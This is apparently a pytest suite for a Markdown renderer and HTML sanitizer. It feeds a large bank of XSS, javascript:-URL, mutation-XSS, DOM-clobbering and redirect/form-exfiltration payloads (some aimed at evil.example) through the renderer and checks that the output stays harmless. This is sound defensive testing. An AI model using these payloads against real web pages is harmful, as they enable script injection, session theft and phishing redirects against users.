"""Markdown on the page: what it may become, and a bank of what it may not."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from adapters.web.markdown import DEEPEST, LONGEST, Growing, Renderer, cleaner

TAGS = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "blockquote", "ul", "ol", "li", "pre", "code"),
    *("em", "strong", "s", "a", "table", "thead", "tbody", "tr", "th", "td"),
}
BANK = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{display:none}</style><p style='position:fixed;top:0'>forged</p>",
    "<form action=https://evil.example><input name=token></form>",
    "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<details open ontoggle=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<p id=composer class=dialog name=main>clobbered</p>",
    "<!-- <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php <script>alert(1)</script> ?>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](<java&#10;script:alert(1)>)",
    "[x](<java&Tab;script:alert(1)>)",
    "[x](<\x01javascript:alert(1)>)",
    "[x](< javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](%6aavascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](blob:https://evil.example/1)",
    "[x](file:///etc/passwd)",
    "[x](ftp://a.example/x)",
    "[x](tel:1)",
    "[x](filesystem:https://evil.example/x)",
    "[x](view-source:https://evil.example)",
    "[x](//evil.example/x)",
    "[x](/logout)",
    "[x](?q=1)",
    "[x](#composer)",
    "[x](\\\\evil.example\\x)",
    '[x](https://a.example "onmouseover=alert(1)")',
    "[x](https://a.example '\" onmouseover=\"alert(1)')",
    '[x](https://a.example/"onmouseover="alert(1))',
    "[x](https://a.example/'><script>alert(1)</script>)",
    "[x](https://a.example/<script>)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "![x](//evil.example/pixel.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    '![x"onerror="alert(1)](https://evil.example/a.png)',
    "![<script>alert(1)</script>](https://evil.example/a.png)",
    "![x](https://evil.example/a.png '\"><script>alert(1)</script>')",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "![![x](javascript:1)](javascript:2)",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "<https://a.example/<script>alert(1)</script>>",
    "<data:text/html,x>",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x][r]\n\n[r]: <java\nscript:alert(1)>",
    "[x][r]\n\n[r]: https://a.example '\"><script>alert(1)</script>'",
    '[r]: javascript:alert(1) "<script>alert(1)</script>"\n\n[r]',
    "```\n</code></pre><script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    '```js" onmouseover="alert(1)\nx\n```',
    "```language-x id=composer class=dialog\nx\n```",
    "````\n```\n<script>alert(1)</script>\n```\n````",
    "~~~ <img src=x onerror=alert(1)>\nx\n~~~",
    "    <script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "`` ` `<img src=x onerror=alert(1)>``",
    "# <script>alert(1)</script>\n\n<script>alert(1)</script>\n===",
    '| a | <script>alert(1)</script> |\n|:-:|" onload=x|\n| <img src=x onerror=1> | [x](javascript:1) |',
    "|a|\n|:-|\n|<td style='position:fixed' class=align-left onclick=x>|",
    "> > <script>alert(1)</script>\n> - <img src=x onerror=1>",
    "- [x](javascript:alert(1))\n  1. <svg/onload=alert(1)>",
    '99999999999. x\n\n1" onload="x. y',
    "*<script>*alert(1)*</script>*",
    "**[x](java**script:alert(1))**",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script\\>alert(1)\\</script\\>",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "[x](java\0script:alert(1))",
    "\ufeff<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a/href="j&Tab;a&Tab;vascript:alert(1)">',
    "\u202e<script>alert(1)</script>\u2066",
    "＜script＞alert(1)＜/script＞",
    "<x\x0conclick=alert(1)>",
    "<" * 300 + "script>" + ">" * 300,
    "[a](" * 200 + "javascript:alert(1)" + ")" * 200,
    "> " * 100 + "<script>alert(1)</script>",
    "$$\\href{javascript:alert(1)}{x}$$",
    "[^1]: <script>alert(1)</script>",
    '<mailto:a@b.example?subject="><script>alert(1)</script>>',
    '[x](mailto:a@b.example"onclick=alert(1))',
]


HTML = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="/logout">x</a>',
    '<a href="ftp://a.example/x">x</a>',
    '<a href="https://a.example" target="_self" rel="opener" onclick="x">x</a>',
    '<p style="position:fixed" class="dialog" id="composer">x</p>',
    '<code class="language-x dialog">x</code>',
    '<code class="language-x&quot; onload=x">x</code>',
    '<pre data-language="x y" data-other="z">x</pre>',
    '<td class="align-left dialog">x</td>',
    "<table><tr><td class=align-left>x",
    "<ol start=3 type=a><li value=2>x",
    "<img src=https://evil.example/pixel.png>",
    "<button>x</button><input><select><option>",
]


class Reader(HTMLParser):
    """What a browser would see in it."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.other: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))

    def handle_comment(self, data: str) -> None:
        self.other.append(data)

    def handle_decl(self, decl: str) -> None:
        self.other.append(decl)

    def handle_pi(self, data: str) -> None:
        self.other.append(data)

    def unknown_decl(self, data: str) -> None:
        self.other.append(data)


def harmless(html: str) -> bool:
    """Only tags and attributes that are meant; every address is of the web or of mail and opens apart."""
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert reader.other == []
    for tag, attributes in reader.seen:
        assert tag in TAGS, tag
        for name, value in attributes.items():
            assert _meant(tag, name, value or ""), (tag, name, value)
        if tag == "a" and "href" in attributes:
            assert attributes["target"] == "_blank"
            assert attributes["rel"] == "noopener noreferrer nofollow"
    return True


def _meant(tag: str, name: str, value: str) -> bool:
    match tag, name:
        case "a", "href":
            return re.match(r"(https?://|mailto:)", value) is not None
        case "a", "title" | "rel" | "target":
            return True
        case "code", "class":
            return re.fullmatch(r"language-[\w+#.-]+", value) is not None
        case "pre", "data-language":
            return re.fullmatch(r"[\w+#.-]+", value) is not None
        case "th" | "td", "class":
            return re.fullmatch(r"align-(left|right|center)", value) is not None
        case "ol", "start":
            return value.isdecimal()
        case _:
            return False


@pytest.mark.parametrize("text", BANK)
def test_no_text_becomes_more_than_text(text: str) -> None:
    renderer = Renderer()
    assert harmless(renderer.render(text))
    assert harmless(renderer.render(f"Look:\n\n{text}\n\nand more"))
    assert harmless(renderer.render(f"- a\n  {text}"))


@pytest.mark.parametrize("text", [*BANK, *HTML])
def test_the_second_fence_holds_by_itself(text: str) -> None:
    assert harmless(cleaner().clean(text))


def test_no_two_texts_become_more_than_text() -> None:
    renderer = Renderer()
    for first, second in zip(BANK, BANK[1:] + BANK[:1], strict=True):
        assert harmless(renderer.render(first + second))
        assert harmless(renderer.render(f"{first}\n{second}"))


@pytest.mark.parametrize("text", BANK)
def test_no_text_becomes_more_than_text_while_it_grows(text: str) -> None:
    renderer = Renderer()
    growing = Growing(renderer)
    for end in range(0, len(text) + 1, 1 if len(text) < 200 else 37):
        assert harmless(growing.render(text[:end]))


APART = 'target="_blank" rel="noopener noreferrer nofollow"'
TABLE = """\
<table>
<thead>
<tr>
<th>a</th>
<th class="align-right">b</th>
</tr>
</thead>
<tbody>
<tr>
<td>1</td>
<td class="align-right">2</td>
</tr>
</tbody>
</table>
"""


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("a **b** _c_ ~~d~~ `e`", "<p>a <strong>b</strong> <em>c</em> <s>d</s> <code>e</code></p>\n"),
        ("<b>not bold</b>", "<p>&lt;b&gt;not bold&lt;/b&gt;</p>\n"),
        (
            "```python title=x\n1 < 2\n```",
            '<pre data-language="python"><code class="language-python">1 &lt; 2\n</code></pre>\n',
        ),
        ("```\nplain\n```", "<pre><code>plain\n</code></pre>\n"),
        ("```c++\nx\n```", '<pre data-language="c++"><code class="language-c++">x\n</code></pre>\n'),
        (
            '[a](https://b.example/?c=1&d=2 "e")',
            f'<p><a href="https://b.example/?c=1&amp;d=2" title="e" {APART}>a</a></p>\n',
        ),
        (
            "![a cat](https://b.example/cat.png)",
            f'<p><a href="https://b.example/cat.png" {APART}>a cat</a></p>\n',
        ),
        ("![a cat](cat.png)", "<p>a cat</p>\n"),
        (
            "|a|b|\n|-|-:|\n|1|2|",
            TABLE,
        ),
        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
        ("", ""),
    ],
)
def test_markdown_becomes_what_it_means(text: str, html: str) -> None:
    assert Renderer().render(text) == html


GROWN = (
    "# A title\n\nWords with *marks* and a [link][1].\n\n- one\n- two\n  - deep\n\n1. a\n2. b\n\n"
    "> quoted\nlazily\n\n```python\ndef f():\n\n    return 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
    "Setext\n======\n\n    indented\n\n    code\n\n***\n\nThe *end*\r\nof\rit.\n"
)


@pytest.mark.parametrize("step", [1, 3, 17])
def test_a_text_that_has_grown_is_what_it_would_be_at_once(step: int) -> None:
    text = f"[1]: https://a.example\n\n{GROWN}"
    renderer = Renderer()
    growing = Growing(renderer)
    for end in range(0, len(text), step):
        whole = text[:end].replace("\r\n", "\n").replace("\r", "\n")
        assert growing.render(text[:end]) == renderer.render(whole)


def test_only_the_end_of_a_text_that_grows_is_rendered_anew() -> None:
    growing = Growing(Renderer())
    text = "A paragraph.\n\n" * 1000
    growing.render(text)
    assert growing.cost(text + "more") < 30
    assert growing.render("Something else") == "<p>Something else</p>\n"


def test_what_is_too_long_or_too_deep_stands_as_it_is() -> None:
    renderer = Renderer()
    assert renderer.render("*<b>" * LONGEST).startswith("<pre>*&lt;b&gt;*&lt;b&gt;")
    assert "<blockquote>" * DEEPEST not in renderer.render("> " * 500 + "deep")


def test_what_was_rendered_is_remembered_within_bounds_and_forgotten_when_asked() -> None:
    renderer = Renderer(cached=100)
    renderer.render("one")
    assert renderer.knows("one")
    renderer.render("x" * 60)
    assert not renderer.knows("one")
    assert not renderer.knows("x" * 60)
    renderer.render("two")
    renderer.forget()
    assert not renderer.knows("two")
